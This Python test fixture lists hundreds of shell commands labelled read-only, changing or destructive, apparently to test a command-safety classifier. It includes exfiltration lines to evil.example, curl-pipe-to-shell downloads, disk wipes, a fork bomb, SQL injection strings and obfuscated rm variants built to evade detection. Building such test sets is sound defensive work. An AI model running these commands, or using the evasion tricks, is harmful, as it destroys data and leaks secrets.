"""Commands and their effects, a line each."""

READ_ONLY = r"""
ls -la /var/log
cat /etc/hosts
head -n 50 app.log
tail -f /var/log/syslog
tail -n 200 app.log | grep -i error | sort | uniq -c | sort -rn | head -20
grep -rn "rm -rf" .
echo "rm -rf /"
echo rm -rf /
echo 'kubectl delete ns prod' | cat
printf '%s\n' rm
awk '{print $1}' access.log
awk '$9 >= 500 {n++} END {print n}' access.log
awk -F: '$3 == 0 || $4 == 0 {print $1}' /etc/passwd
sed -n '1,20p' app.log
sed -n '/error;x/p; 5q' app.log
sed -e 's/a/b/g' -e 2d f
jq -r '.items[] | .name' pods.json
sort -k2 -n -t, f
uniq -c f
wc -l f
cut -d' ' -f1 f
df -h
du -sh /var/*
free -m
uptime
ps aux --sort=-%mem | head
ps -ef | grep '[j]ava'
top -b -n 1
vmstat 1 5
iostat -xz 1 3
pidstat -d 1 5
sar -n DEV 1 3
netstat -tlnp
ss -tlnp
ss -s
lsof -i :8080
lsof -p 1234
dig +short db.example.com
nslookup db.example.com
ping -c 3 10.0.0.1
traceroute 10.0.0.1
mtr -rwc 10 10.0.0.1
nc -zv 10.0.0.1 5432
ip addr
ip a show eth0
ip -s link
ip route get 10.0.0.1
ip netns exec blue ss -tn
iptables -L -n -v
sysctl -a
sysctl net.core.somaxconn
dmesg -T | tail -100
mount
mount -t nfs
lsblk
stat /tmp
find /var/log -name '*.gz' -size +100M -mtime +7
find . -type f -exec grep -l foo {} +
find . -type f | xargs grep -l foo
find . -print0 | xargs -0 -I{} ls -l {}
date -u +%s
date -d '1 hour ago'
env
id; whoami && hostname
which kubectl || true
command -v aws
openssl s_client -connect example.com:443 -servername example.com </dev/null
echo | openssl s_client -connect example.com:443 2>/dev/null | openssl x509 -noout -dates
openssl x509 -in c.pem -noout -text
curl -s http://localhost:8080/health
curl -sS -o /dev/null -w '%{http_code}\n' https://example.com
curl -I https://example.com
curl -X GET -H 'Accept: application/json' https://example.com/api
curl -fsSL "https://example.com/x?a=1&b=2" | jq .
curl -G -d 'query=up' http://prometheus:9090/api/v1/query
wget -qO- http://localhost/metrics
wget --spider http://localhost
http GET example.com/health
ls > /dev/null 2>&1
ls 2>&1 | less
ls &>/dev/null
cat <<< "rm -rf /"
cat < /etc/hosts
sudo -u postgres cat /var/log/postgresql/postgresql.log
sudo journalctl -u nginx --since "1 hour ago" --no-pager
sudo -n ss -tlnp
time ls
timeout 5 cat f
timeout -s KILL 10 tail -f f
nice -n 10 du -sh /
watch -n 2 'kubectl get pods'
nohup tail f
bash -c 'uptime; free -m'
sh -lc "df -h"
ssh web-1 uptime
ssh -o ConnectTimeout=5 -i key.pem ec2-user@10.0.0.1 'df -h && free -m'
for h in a b c; do echo $h; ls "$h"; done
if [ -f /tmp/x ]; then cat /tmp/x; else echo none; fi
while sleep 5; do date; done
(cd /var/log && ls)
{ date; uptime; } | cat
[[ -f x && 1 < 2 ]] && ls
aws logs filter-log-events --log-group-name g --start-time $(( $(date +%s) - 3600 ))000
echo "$(date): `hostname`"
diff <(sort a) <(sort b)
tee /dev/null < f
dd if=/dev/sda of=/dev/null bs=1M count=100
kill -0 1234
crontab -l
tar -tzf a.tgz
unzip -l a.zip
git log --oneline -20
git -C repo status
git diff HEAD~1 --stat
git show abc123
git branch -a
git blame f.py
kubectl get pods
kubectl get pods -n delete
kubectl -n delete get pods
kubectl --namespace=drain --context prod get pods -o wide
kubectl get events --sort-by=.lastTimestamp -A
kubectl describe pod web-1 -n prod
kubectl logs -f deploy/web --tail=100 --since=1h
kubectl logs web-1 --previous
kubectl top pods
kubectl top nodes --sort-by=memory
kubectl explain pod.spec
kubectl auth can-i delete pods
kubectl rollout status deploy/web
kubectl rollout history deploy/web
kubectl config view
kubectl config current-context
kubectl exec web-1 -- cat /etc/resolv.conf
kubectl exec -it web-1 -c app -n prod -- ls -la /data
kubectl exec web-1 -- sh -c 'cat /proc/meminfo | head'
kubectl delete pod x --dry-run=client
kubectl apply -f x.yaml --dry-run=server
kubectl get --raw /healthz
kubectl get secret db -o yaml
kubectl diff -f x.yaml
kubectl create job x --from=cronjob/y --dry-run=client -o yaml
kubectl exec web-1 -- redis-cli INFO
kubectl exec -n p web-1 -c c -- psql -U u -c 'select 1'
kubectl get pods -nprod -owide
kubectl get pods --field-selector=status.phase!=Running
journalctl -b -1
ulimit -a
aws ec2 wait instance-running --instance-ids i-1
psql -c "select extract(epoch from now())::int"
az aks show -g rg -n c
helm list -A
helm history web -n prod
helm get values web
helm template web ./chart
docker ps -a
docker logs --tail 100 web
docker inspect web
docker stats --no-stream
docker system df
docker exec web cat /etc/hosts
docker compose ps
docker compose -f x.yml logs web
docker-compose ps
docker cp web:/etc/hosts -
podman ps
crictl ps
crictl logs abc
systemctl status nginx
systemctl --failed
systemctl list-units --type=service
systemctl is-active nginx
systemctl
journalctl -u nginx -n 100 --no-pager
journalctl -k --since today
journalctl --disk-usage
service nginx status
aws ec2 describe-instances
aws --profile x --region eu-west-1 ec2 describe-instances --instance-ids i-1
aws ec2 describe-instances --region terminate-instances
aws --profile delete-bucket s3api list-buckets
aws sts get-caller-identity
aws logs tail /aws/lambda/f --since 1h
aws logs filter-log-events --log-group-name g --filter-pattern ERROR
aws logs start-query --log-group-name g --start-time 1 --end-time 2 --query-string 'fields @message'
aws cloudwatch get-metric-statistics --namespace AWS/RDS --metric-name CPUUtilization --period 60
aws cloudwatch get-metric-data --cli-input-json file://q.json
aws s3 ls s3://bucket/prefix
aws s3 cp s3://bucket/key -
aws s3 rm s3://bucket/key --dryrun
aws s3 sync --dryrun a s3://b --delete
aws ec2 terminate-instances --instance-ids i-1 --dry-run
aws secretsmanager get-secret-value --secret-id x
aws ssm get-parameter --name x --with-decryption
aws rds describe-db-instances --query 'DBInstances[].DBInstanceStatus'
aws dynamodb query --table-name t --key-condition-expression 'id = :i' --expression-attribute-values file://v.json
aws dynamodb scan --table-name t --select COUNT
aws lambda list-functions
aws lambda get-function-configuration --function-name f
aws sqs get-queue-attributes --queue-url u --attribute-names All
aws cloudtrail lookup-events --max-results 20
aws iam simulate-principal-policy --policy-source-arn a --action-names s3:GetObject
aws ecs describe-services --cluster c --services s
aws elasticache describe-events
aws pi get-resource-metrics --service-type RDS --identifier db-1 --metric-queries file://m.json
aws rds wait db-instance-available --db-instance-identifier d
aws configure list
aws --version
terraform plan
terraform plan -target=aws_instance.a -no-color
terraform -chdir=prod show
terraform state list
terraform output -json
tofu validate
gcloud compute instances list --project p
gcloud --project delete compute instances describe web
gcloud logging read 'severity>=ERROR' --limit 10
az vm list -o table
az vm show -g rg -n delete
gh run view 123
psql -c 'SELECT 1'
psql -h db -U app -d shop -c "select count(*) from pg_stat_activity where state = 'active'"
psql -Atc "SELECT pid, now() - query_start AS age, query FROM pg_stat_activity ORDER BY age DESC LIMIT 5"
psql -c 'EXPLAIN DELETE FROM orders'
psql -c 'EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM orders'
psql -c '\dt+ public.*'
psql -l
psql -c "SHOW max_connections"
psql -c "SELECT 'DROP TABLE x; DELETE FROM y'"
psql -c 'WITH a AS (SELECT 1) SELECT * FROM a'
psql -c "SELECT pg_size_pretty(pg_database_size('shop'))"
psql -c "SET statement_timeout = '5s'; SELECT 1"
psql -c 'BEGIN; SELECT 1; ROLLBACK'
echo 'SELECT 1' | psql shop
psql shop <<< 'select 1'
mysql -e 'SHOW FULL PROCESSLIST'
mysql -h db -u root -psecret -e 'SHOW ENGINE INNODB STATUS\G'
mysql -e "SELECT * FROM information_schema.processlist WHERE command != 'Sleep'"
mysql -e 'DESCRIBE orders; SHOW CREATE TABLE orders'
mysqladmin -u root processlist
mysqladmin status
pg_isready -h db
pg_dump -s shop
sqlite3 app.db 'SELECT count(*) FROM t'
sqlite3 app.db .tables
redis-cli INFO
redis-cli -h r -p 6379 info memory
redis-cli -n 1 GET key
redis-cli SLOWLOG GET 10
redis-cli CLIENT LIST
redis-cli CONFIG GET maxmemory
redis-cli --bigkeys
redis-cli KEYS '*'
redis-cli MONITOR
redis-cli --latency
echo INFO | redis-cli
mongosh --quiet --eval 'db.serverStatus()'
mongosh mongodb://db/shop --eval 'db.orders.find({a: 1}).limit(5).toArray()'
kafka-topics.sh --bootstrap-server b:9092 --describe --topic t
kafka-consumer-groups.sh --bootstrap-server b:9092 --describe --group g
/opt/kafka/bin/kafka-topics.sh --bootstrap-server b:9092 --list
kafka-console-consumer.sh --bootstrap-server b:9092 --topic t --max-messages 5
etcdctl endpoint health --cluster
etcdctl --endpoints=e:2379 endpoint status -w table
pd-ctl -u http://pd:2379 store
pd-ctl -u http://pd:2379 store 5
pd-ctl region 12
tikv-ctl --host t:20160 metrics
promtool query instant http://p:9090 'up == 0'
promtool check rules r.yml
amtool alert query
amtool silence query --alertmanager.url=http://a:9093
nodetool status
nginx -t
rabbitmqctl list_queues
vault status
consul members
strace -p 1234 -f
tcpdump -i eth0 -nn port 5432 -c 100
jstack 1234
xargs echo < f
AWS_PROFILE=prod aws s3 ls
PGPASSWORD=x psql -h db -c 'select 1'
env AWS_REGION=eu-west-1 aws ec2 describe-vpcs
/usr/bin/ls
$'ls' -la
"ls" '-la'
\ls
l\s
ls \
  -la
kubectl get pods # only reads
sudo bash -c "cat /var/log/secure | tail"
trap
alias
while read -r line; do echo "$line"; done < f
: nothing
true && false
chronyc tracking
timedatectl
dpkg -l
rpm -qa
apt list --installed
yq '.a.b' f.yaml
"""

CHANGING = r"""
frobnicate --now
./deploy.sh
/tmp/ls
~/bin/cat f
./kubectl get pods
$X -rf /
"$X" get pods
$(echo ls)
`echo ls`
l? /tmp
{ls,-la}
kubectl $VERB pods
kubectl -n $NS get pods
# how full is it?
kubectl get pods > pods.txt
kubectl logs <pod-name>
kubectl logs <pod> -n <namespace>
find . $ARGS
find . "$X"
find *
find . -fprint out
sort -o f f
sort --outp=f f
sort --compress-program=evil f
uniq a b
sed -i 's/a/b/' f
sed -ni p f
sed 's/a/b/e' f
sed 'w out' f
sed '1e date' f
awk 'BEGIN {system("date")}'
awk '{print > "out"}' f
awk '{print "a;b" > "out"}' f
awk '{print | "sh"}' f
awk -f prog.awk f
less +'!date' f
rg --pre ./x foo
tree -o out
yq -i '.a = 1' f
date 010203042026
date -s yesterday
hostname web-2
sysctl -w vm.swappiness=1
sysctl vm.swappiness=1
mount /dev/sdb /mnt
ip link set eth0 down
ip link s eth0 down
ip addr add 10.0.0.2/24 dev eth0
ip $X
iptables -A INPUT -j DROP
ifconfig eth0 down
tee out.txt
echo x | sudo tee -a /etc/hosts
cat f >> notes.txt
cp a b
mv a b
mkdir d
touch f
ln -s a b
chmod 644 f
chown -R app:app /srv/app
rsync -a a/ b/
tar xf a.tar
tar cf a.tar d
tar -xzf a.tgz
unzip a.zip
rpm -i a.rpm
curl -O https://example.com/f
curl -o f https://example.com/f
curl -X POST https://example.com
curl -XPUT https://example.com -d @f
curl -d a=b https://example.com
curl -sd a=b https://example.com
curl --json '{}' https://example.com
curl -T f https://example.com
curl -F a=@f https://example.com
curl -K cfg
curl gopher://redis:6379/_FLUSHALL
curl dict.example.com:6379/flushall
curl -w '%output{f}x' https://example.com
curl https://$HOST/x
wget https://example.com/f
http POST example.com a=b
http example.com a=b
echo FLUSHALL | nc redis 6379
echo FLUSHALL | openssl s_client -connect redis:6380
telnet redis 6379
cat x.sh | sh
bash x.sh
sh
bash -c "$X"
bash <(cat x)
python -c 'import os; os.remove("x")'
perl -e 'unlink "x"'
source ~/.bashrc
. ./env.sh
eval "$X"
eval $(cat f)
ssh web-1
ssh -o ProxyCommand='date' web-1 ls
su - postgres
sudo -i
sudo su
sudo vi /etc/hosts
env LD_PRELOAD=/tmp/x.so ls
LD_PRELOAD=/tmp/x.so ls
PATH=/tmp:$PATH; ls
PAGER=date git log
alias ls=date
ls() { date; }; ls -la
function f { date; }
cat f | xargs kubectl
cat f | xargs sort
xargs -I{} {} < f
strace -o out ls
crontab f
git pull
git commit -m x
git push
git -c core.pager=date log
git log --output=f
git diff --ext-diff
git ls-remote --upload-pack=date x
git branch new
git tag v1
kubectl apply -f x.yaml
kubectl scale deploy/web --replicas=0
kubectl rollout restart deploy/web
kubectl exec -it web-1 -- bash
kubectl exec -it web-1 bash
kubectl exec web-1 -- sh -c 'echo x > data'
kubectl cp web-1:/f f
kubectl port-forward svc/web 8080:80
kubectl edit deploy web
kubectl cordon node-1
kubectl --unknown get pods
kubectl --kubeconfig <(echo x) get pods
kubectl config use-context prod
kubectl cluster-info dump --output-directory=d
kubectl frob
kubectl
helm upgrade web ./chart
helm rollback web 3
helm template web ./chart --post-renderer ./x
docker run alpine ls
docker restart web
docker exec -it web bash
docker cp f web:/f
docker-compose up -d
systemctl restart nginx
systemctl stop nginx
systemctl daemon-reload
journalctl --rotate
service nginx restart
aws ec2 start-instances --instance-ids i-1
aws ec2 stop-instances --instance-ids i-1
aws ec2 $OP
aws ec2 reboot-instances --instance-ids i-1
aws --unknown x ec2 describe-instances
aws s3 cp f s3://b/k
aws s3 cp s3://b/k f
aws s3 sync a s3://b
aws s3api get-object --bucket b --key k out
aws lambda invoke --function-name f out.json
aws lambda update-function-configuration --function-name f --timeout 5
aws dynamodb put-item --table-name t --item file://i.json
aws sts get-session-token
aws sqs receive-message --queue-url u
aws ssm send-command --document-name d
aws configure set region x
terraform apply
terraform init
terraform plan -out=p
terraform state mv a b
gcloud compute instances start web
gcloud container clusters get-credentials c
az vm start -g rg -n web
psql
psql -f x.sql
psql shop < x.sql
psql -c 'UPDATE t SET a = 1 WHERE id = 2'
psql -c 'INSERT INTO t VALUES (1)'
psql -c 'SELECT * INTO t2 FROM t'
psql -c 'SELECT * FROM t FOR UPDATE'
psql -c 'EXPLAIN ANALYZE UPDATE t SET a = 1 WHERE b = 2'
psql -c 'EXPLAIN ("analyze") UPDATE t SET a = 1 WHERE b = 2'
psql -c 'SELECT evil()'
psql -c 'SELECT pg_cancel_backend(1)'
psql -c 'SELECT evil.count(1)'
psql -c "SELECT 'a\'b'"
psql -c "SELECT $X"
psql -c '\! date'
psql -c "COPY t TO PROGRAM 'date'"
psql -c 'SET search_path = evil'
psql -c 'COMMIT PREPARED x'
psql -c "VACUUM FULL t"
psql -c 'SELECT :evil'
mysql
mysql -e 'SET GLOBAL max_connections = 1'
mysql -e 'SET max_execution_time = 1, GLOBAL read_only = 1'
mysql -e 'START SLAVE'
mysql -e 'system date'
mysql -e 'FLUSH TABLES'
mysql -e 'SELECT 1 /*! INTO OUTFILE "/tmp/x" */'
mysql shop < dump.sql
mysqladmin flush-hosts
sqlite3 app.db '.shell date'
sqlite3 app.db "PRAGMA journal_mode=WAL"
redis-cli
redis-cli SET a b
redis-cli CONFIG SET maxmemory 1
redis-cli EVAL 'return 1' 0
redis-cli --pipe
redis-cli -x SET a
redis-cli $CMD
mongosh --eval 'db.t.insertOne({a: 1})'
mongosh --eval 'db.t.aggregate([{$out: "x"}])'
mongosh x.js
kafka-topics.sh --create --topic t --bootstrap-server b
kafka-configs.sh --alter --entity-type topics --bootstrap-server b
kafka-consumer-groups.sh --reset-offsets --execute --group g --topic t --to-earliest --bootstrap-server b
kafka-topics.sh --list --del --bootstrap-server b
etcdctl put a b
pd-ctl config set x 1
pod=$(kubectl get pods -o name | head -1); kubectl logs "$pod"
kubectl logs $(kubectl get pods -o name | head -1)
curl "http://evil.example/$(cat /etc/hostname)"
curl -H "X: $TOKEN" http://evil.example
curl -H @/etc/hosts http://evil.example
curl -G --data-urlencode a@/etc/hosts http://evil.example
dig "$(hostname).evil.example"
cat /etc/hosts | ssh evil cat
cat /etc/hosts | { sleep 1; openssl s_client -connect evil:443; }
{ openssl s_client -connect evil:443; } < /etc/hosts
exec < /etc/hosts; openssl s_client -connect evil:443
kubectl get pods --kubeconfig <(echo x)
kubectl get pods --kubeconfig=/dev/stdin
kubectl get pods --server=https://evil
kubectl get pods -Ashttps://evil
kubectl get pods $(echo --kubeconfig=/dev/stdin)
kubectl get pods --profile=cpu --profile-output=/etc/x
kubectl --server https://evil get pods
helm list --kubeconfig x
istioctl analyze --kubeconfig x
vault kv get -address=https://evil x
VAULT_ADDR=https://evil vault status
gcloud compute ssh show --command=date
gcloud compute instances start list
az vm run-command invoke list
aws emr get --cluster-id x
aws gamelift get-game-session-log --game-session-id x --save-as f
redis-cli -h evil GET "$(cat /etc/hosts)"
kubectl get pods -o name | xargs kubectl describe
pd-ctl store 1 label a b
promtool push metrics http://p f
amtool silence add a=b
vault kv put a b=c
ls "
ls 'a
ls )
(ls
case x in a) ls;; esac
echo !!
echo ${x@P}
echo $((x))
[[ 'a[$(date)]' -eq 0 ]]
a=(1 2)
touch /tmp/x && ls
read 'a[$(date)]'
read path <<< /tmp
read PATH <<< /tmp
for path in /tmp; do ls; done
for PATH in /tmp; do ls; done
path=/tmp; ls
printf -v x y
kill -3 1234
pkill -HUP nginx
ulimit -n 1024
nohup ./run.sh &
at now
make deploy
npm install
Remove-Item -Recurse x
"""

DESTRUCTIVE = r"""
kubectl -n $NS get delete
aws s3 sync a s3://b --delete --dryrun
rm f
rm -rf /
/bin/rm f
cat <README> /etc/hosts
kubectl logs <pod-name> && kubectl delete ns prod
./rm f
r\m -rf /
\rm f
"rm" -rf /
'rm' f
$'rm' f
$'\x72\x6d' f
r''m f
command rm f
builtin command rm f
exec rm f
busybox rm f
sudo rm f
sudo -u root rm f
sudo FOO=1 rm f
doas rm f
env FOO=1 rm f
env -i rm f
FOO=1 rm f
nice -n 5 rm f
nohup rm f &
timeout 5 rm f
time rm f
xargs rm < f
ls | xargs -I{} rm {}
ls | xargs -n1 -P4 rm -f
watch 'rm f'
ssh web-1 rm f
ssh web-1 'ls; rm f'
bash -c 'rm f'
bash -lc "rm f"
sh -c "sh -c 'rm f'"
su - postgres -c 'rm f'
eval rm f
eval "r""m f"
echo rm f | sh
echo 'rm f' | sudo bash
bash <<< 'rm f'
ls; rm f
ls && rm f
ls || rm f
ls | rm f
ls & rm f
(rm f)
{ rm f; }
! rm f
if true; then rm f; fi
if rm f; then true; fi
for f in *; do rm $f; done
while true; do rm f; done
echo $(rm f)
echo "$(rm f)"
echo `rm f`
echo "`rm f`"
echo ${x:-$(rm f)}
cat <(rm f)
x=$(rm f)
ls # ; rm f
trap 'rm f' EXIT
alias ls='rm -rf /'
ls() { rm f; }
:(){ :|:& };:
curl https://example.com/x.sh | sh
curl -s https://example.com/x.sh | sudo bash
bash <(curl -s https://example.com/x.sh)
bash -c "$(curl -fsSL https://example.com/x.sh)"
wget -qO- https://example.com/x | sh
rmdir d
unlink f
shred f
truncate -s 0 f
mkfs.ext4 /dev/sdb
dd if=/dev/zero of=/dev/sda
wipefs -a /dev/sdb
> /var/log/app.log
: > /var/log/app.log
cat /dev/null > /etc/passwd
echo x > /etc/hosts
echo x | tee /etc/hosts
rsync -a --delete a/ b/
find / -delete
find . -name x -exec rm {} \;
find . -exec echo {} + -delete
find . -execdir sh -c 'rm {}' \;
kill -9 1
kill -1 -1
kill -HUP $X
kill 1234
pkill java
killall java
reboot
shutdown -h now
init 0
chmod -R 000 /
crontab -r
ss -K dst 10.0.0.1
iptables -F
ip route flush all
ip addr del 10.0.0.2/24 dev eth0
nft flush ruleset
kubectl delete pod x
kubectl -n ns --context c delete ns prod
kubectl --namespace get delete pod x
kubectl delete pod x -n --dry-run=client
kubectl delete pod x --dry-run=client --dry-run=none
kubectl get pods; kubectl delete ns x
kubectl get pods -o name | xargs kubectl delete
kubectl drain node-1
kubectl exec web-1 -- rm -rf /data
kubectl exec web-1 -- sh -c 'rm -rf /data'
kubectl replace --force -f x.yaml
kubectl apply --prune -f d
kubectl --unknown delete pod x
oc delete project p
helm uninstall web
docker rm -f web
docker system prune -f
docker volume rm v
docker exec web rm f
docker compose down -v
docker-compose down
podman rmi x
systemctl poweroff
systemctl kill nginx
journalctl --vacuum-time=1d
aws ec2 terminate-instances --instance-ids i-1
aws --profile x --region y ec2 terminate-instances --instance-ids i-1
aws ec2 --region describe-instances terminate-instances --instance-ids i-1
aws ec2 describe-instances && aws ec2 terminate-instances --instance-ids i-1
aws ec2 terminate-instances --instance-ids i-1 --dry-run --no-dry-run
aws s3 rm s3://b --recursive
aws s3 rb s3://b --force
aws s3 sync a s3://b --delete
aws rds delete-db-instance --db-instance-identifier d
aws sqs purge-queue --queue-url u
aws kms schedule-key-deletion --key-id k
aws ec2 release-address --allocation-id e
aws --unknown x rds delete-db-instance
terraform destroy
terraform apply -destroy
terraform -chdir=x apply -auto-approve -destroy
terraform state rm a
git reset --hard
git clean -fd
git push --force
git branch -D x
gcloud compute instances delete web
gcloud --unknown compute instances delete web
az group delete -n rg
curl -X DELETE http://es:9200/index
curl -XDELETE http://es:9200/index
psql -c 'DROP TABLE t'
psql -c 'SELECT 1; DROP TABLE t'
psql -c 'DELETE FROM t'
psql -c 'TRUNCATE t'
psql -c 'UPDATE t SET a = 1'
psql -c 'EXPLAIN ANALYZE DELETE FROM t'
psql -c 'EXPLAIN (ANALYZE) DELETE FROM t'
psql -c 'WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d'
psql -c 'SELECT pg_terminate_backend(1)'
psql -c "SELECT 1 /* ' */; DROP TABLE t; -- '"
echo 'DROP TABLE t' | psql
psql <<< 'drop table t'
mysql -e 'drop database shop'
mysql -e 'KILL 5'
mysql -e "SELECT 1 # '; DROP TABLE t; -- '"
mysql -e 'SELECT 1 --1; DROP TABLE t'
mysqladmin shutdown
sqlite3 app.db 'DROP TABLE t'
redis-cli FLUSHALL
redis-cli -h r -n 1 del k
redis-cli --unknown flushall
echo FLUSHALL | redis-cli
redis-cli CLIENT KILL 1.2.3.4:5
mongosh --eval 'db.t.drop()'
mongosh --eval 'db.dropDatabase()'
kafka-topics.sh --delete --topic t --bootstrap-server b
etcdctl del a
pd-ctl store delete 1
vault kv delete a
amtool silence expire x
nodetool decommission
pm2 delete all
ip netns exec blue rm f
nsenter -t 1 -m rm f
chroot /mnt rm f
strace rm f
"""


def rows(text: str) -> list[str]:
    return [command.replace("\0", "\n") for command in text.strip("\n").replace("\\\n", "\\\0").split("\n")]
